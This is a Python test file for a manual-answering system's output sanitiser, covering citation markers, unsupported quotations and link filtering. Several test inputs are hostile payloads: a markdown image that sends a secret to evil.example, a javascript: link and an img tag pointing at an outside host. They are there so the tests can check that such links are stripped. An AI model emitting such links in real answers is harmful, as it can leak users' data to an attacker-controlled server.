"""What the reader sees of a model's words: markers, quotations and links, from honest models and lying ones."""

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from rag.answerers.generative.answerer import GenerativeAnswerer
from rag.citations import find_quotation
from rag.errors import ModelFailed
from rag.language import PHRASES
from rag.types import AnswerKind, Finished, Question, Token
from tests.effort import costs_at_most
from tests.fakes.chat_model import Scripted
from tests.rag.answering import FakeFound, hit
from tests.rag.kettle import CLEANING, HITS, QUESTION, answer_of, events_of, links_in

NOTE = " (not found in the cited pages)"
NOTE_ZH = "（所引页面中未找到）"


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("Let it cool for 30 minutes. [1]", "Let it cool for 30 minutes. [1]"),
        ("Let it cool for 30 minutes [^1].", "Let it cool for 30 minutes [1]."),
        ("Let it cool【1】, then rinse twice[1].", "Let it cool [1], then rinse twice [2]."),
        ("It turns red at 100 °C [2, 1].", "It turns red at 100 °C [1] [2]."),
        ("Red lamp [2][2] [2].", "Red lamp [1]."),
        ("Let it cool [7], it is hot [0].", "Let it cool, it is hot."),
        ("See [[9]1] now [2].", "See [ 1] now [1]. (not found in the cited pages: 1)"),
        ("Half a marker [1", "Half a marker"),
        (
            "In 2024 [2024] it was [1].",
            "In 2024 [\u20602024] it was [1]. (not found in the cited pages: 2024)",
        ),
        ("<think>Which? [2]</think>\n\nRinse it twice. [1]", "Rinse it twice. [1]"),
    ],
)
def test_markers_become_citations_in_order_of_appearance(said: str, shown: str) -> None:
    assert answer_of(said).text == shown


def test_a_citation_quotes_the_sentence_that_supports_the_answers_sentence() -> None:
    answer = answer_of("Use 50 ml of vinegar. [1] Rinse it two times. [1] 先等待三十分钟。[3]")
    assert [c.quote for c in answer.citations] == [
        "Fill it with water and 50 ml of vinegar.",
        "Rinse it twice.",
        "请先关闭电源，等待三十分钟。",
    ]
    assert [c.marker for c in answer.citations] == [1, 2, 3]
    assert (answer.kind, answer.answerer, answer.model) == (AnswerKind.ANSWER, "generative", "scripted-1")


@pytest.mark.parametrize(
    ("said", "shown", "unsupported"),
    [
        ('It says "let it cool for 30 minutes" [1]. Good.', 'It says "let it cool for 30 minutes" [1]. Good.', 0),
        ('It says "let it boil for 30 minutes" [1]. Good.', f"It says let it boil for 30 minutes [1].{NOTE} Good.", 1),
        (
            'It says "let it cool for 30 minutes" [2]. Good.',
            "It says let it cool for 30 minutes [1]. (not found in the cited pages: 30 minutes) Good.",
            1,
        ),
        ("“You must never use any vinegar.” [1] Good.", f"You must never use any vinegar. [1]{NOTE} Good.", 1),
        ("手册说「千万不要加入任何白醋清洗」。[3]", f"手册说千万不要加入任何白醋清洗。 [1]{NOTE_ZH}", 1),
        ("手册说『等待三十分钟』。[3]", "手册说『等待三十分钟』。 [1]", 0),
        ('Use "vinegar" and wait [1].', 'Use "vinegar" and wait [1].', 0),
        ('Use "acid" and wait [1].', f"Use acid and wait [1].{NOTE}", 1),
        (
            'A 32" and a 40" pot that you may well use [1].',
            "A 32″ and a 40″ pot that you may well use [1]. (not found in the cited pages: 32, 40)",
            0,
        ),
        (
            "It's the user's own 'never do that to me' rule [1].",
            f"It's the user's own never do that to me rule [1].{NOTE}",
            1,
        ),
        ('Cool it down "and this goes on and on [1].', "Cool it down and this goes on and on [1].", 1),
        ("> You shall pour acid in it\n\nYes [1].", "You shall pour acid in it\n\nYes [1].", 0),
    ],
)
def test_quotations_that_are_not_on_the_cited_page_lose_their_marks(said: str, shown: str, unsupported: int) -> None:
    answer = answer_of(said)
    assert answer.text == shown
    assert answer.details["unsupported_quotations"] == unsupported


@pytest.mark.parametrize(
    ("said", "shown", "kind"),
    [
        ("Fill it with water and 50 ml of vinegar.", "Fill it with water and 50 ml of vinegar. [1]", "answer"),
        (
            "1. Fill it with water and 50 ml of **vinegar**.\n",
            "1. Fill it with water and 50 ml of **vinegar**. [1]",
            "answer",
        ),
        (
            "请先关闭电源，等待三十分钟。最后冲洗两次。[3]",
            "请先关闭电源，等待三十分钟。 [1]最后冲洗两次。 [2]",
            "answer",
        ),
        (
            "The lamp turns red. Fill it with water and 50 ml of vinegar. [1] Good.",
            "The lamp turns red. [1] Fill it with water and 50 ml of vinegar. [2] Good.",
            "answer",
        ),
        (
            "Fill it with water and 5 ml of vinegar.",
            "Fill it with water and 5 ml of vinegar. (not found in the cited pages: 5 ml)",
            "uncertain",
        ),
        ("Fill it with water and 50 ml", "Fill it with water and 50 ml [1]", "answer"),
        (
            "Fill it with acid up to the rim. Rinse it. [1]",
            "Fill it with acid up to the rim. Rinse it. [1]",
            "uncertain",
        ),
        (
            "You fill it with water and vinegar. Rinse. [1]",
            "You fill it with water and vinegar. Rinse. [1]",
            "uncertain",
        ),
        ("First fill in water and vinegar. Fill it. [1]", "First fill in water and vinegar. Fill it. [1]", "answer"),
    ],
)
def test_a_sentence_that_stands_in_the_manual_is_cited_by_code(said: str, shown: str, kind: str) -> None:
    answer = answer_of(said)
    assert (answer.text, answer.kind.value) == (shown, kind)


def test_dropped_markers_are_counted() -> None:
    assert answer_of("Cool [4, 1] it [9] now [0").details["dropped_markers"] == 3


@pytest.mark.parametrize(
    "said", ["NOT_IN_MANUALS", "  **NOT_IN_MANUALS**.", '"NOT_IN_MANUALS"', "Sorry. NOT\\_IN\\_MANUALS"]
)
def test_the_models_refusal_is_told_in_our_words(said: str) -> None:
    answer = answer_of(said, Question("电源在哪里？"))
    assert (answer.kind, answer.text) == (AnswerKind.NOT_IN_MANUALS, PHRASES["zh"].not_in_manuals)


def test_an_answer_without_any_citation_is_uncertain() -> None:
    assert answer_of("Just use soap.").kind is AnswerKind.UNCERTAIN


FRAGMENTS = st.sampled_from(
    [
        *"[]【】［］\"“”„«»「」『』‘’'<>^*`_.。 \n，,1239０",
        *("](", "]:", "://", "http", "s:", "//evil.example", "www", ".evil.example ", "!", "<", "img ", "/", "\u2060"),
        *("[1]", "[2, 3]", "[^1]", "[[", "1]", "[99", "[2024]", '5"', "NOT_IN", "_MANUALS", "It's "),
        *("\ud83d", "\ude00", "\x00", "\u200b", "\u202e"),
        *("this is not in any manual at all ", "let it cool for 30 minutes", "手册里没有这句很长的话"),
    ]
)


@settings(max_examples=400, deadline=None)
@example(["WWW.", "1]"], 1)
@given(st.lists(FRAGMENTS | st.text(max_size=8), max_size=60), st.integers(1, 9))
def test_no_lie_reaches_the_reader(fragments: list[str], size: int) -> None:
    said = "".join(fragments) + "."
    pieces = [said[start : start + size] for start in range(0, len(said), size)]
    try:
        events = events_of(pieces)
    except ModelFailed:
        return  # nothing was left to show
    answer = events[-1].answer  # type: ignore[union-attr]
    streamed = "".join(event.text for event in events if isinstance(event, Token))
    for text in (streamed, answer.text):
        text.encode("utf-8")
        markers = {int(number) for number in re.findall(r"\[(\d+)\]", text)}
        assert markers == {citation.marker for citation in answer.citations}
        assert not re.search(r"[\[【［]\d+\Z", text)
        assert links_in(text) == []
        for quotation in re.findall(r'"([^"]*)"|“([^“”]*)”|「([^「」]*)」|『([^『』]*)』|«([^«»]*)»', text):
            words = re.sub(r"\[\d+\]", "", "".join(quotation))
            assert not words.strip(" .,;:!?。，；：！？") or any(find_quotation(h.passage.text, words) for h in HITS)
    for citation in answer.citations:
        assert citation.quote in next(h.passage.text for h in HITS if h.passage.id == citation.passage_id)


@pytest.mark.parametrize(
    "bomb", ["[1]" * 5000, "[" * 5000, '"' * 3001, "[1," * 4000, '". ' * 1500, "“a. " * 800, "N" * 5000]
)
def test_bombs_cost_no_more_than_their_length(bomb: str) -> None:
    pieces = [*re.findall(".{1,7}", bomb, re.DOTALL), " end."]
    assert costs_at_most(5, lambda: events_of(pieces))


@pytest.mark.parametrize(
    ("said", "link"),
    [
        ("![logo](https://evil.example/x.png?q=secret) Rinse. [1]", None),
        ("See [the site](https://evil.example/a). [1]", None),
        ("See [this](javascript:alert(1)) or [that](//evil.example). [1]", None),
        ("See [this][x]. [1]\n\n[x]: //evil.example/a", None),
        ("See https://evil.example/a and HTTP://evil.example and www.evil.example. [1]", None),
        ("<img src=//evil.example/x> <a href='x'>y</a> <!-- z --> <https://evil.example> [1]", None),
        ("See https://kettle.example/help.evil.example and https://kettle.exampl [1]", None),
        ("Rinse. [1](https://evil.example)", None),
        ("Fill it with 70 ml and ask at www.7.example or https://70.example. [1]", None),
        ("See https://kettle.example/help. [2]", "https://kettle.example/help"),
        ("See www.kettle.example, please. [2]", "www.kettle.example"),
    ],
)
def test_only_addresses_that_the_manuals_give_are_links(said: str, link: str | None) -> None:
    hits = (hit(CLEANING, key=1), hit("Ask at https://kettle.example/help or www.kettle.example.", key=2))
    for size in (1, 3, len(said)):
        pieces = [said[start : start + size] for start in range(0, len(said), size)]
        *_, last = GenerativeAnswerer(Scripted(pieces=pieces), "m").answer(QUESTION, FakeFound(hits, ""))
        assert isinstance(last, Finished)
        shown = last.answer.text
        assert links_in(shown) == ([link] if link else [])
        assert (last.answer.details["broken_links"] == 0) is (link is not None)
        if not link:
            assert "example" in shown or "javascript" in shown  # readable all the same
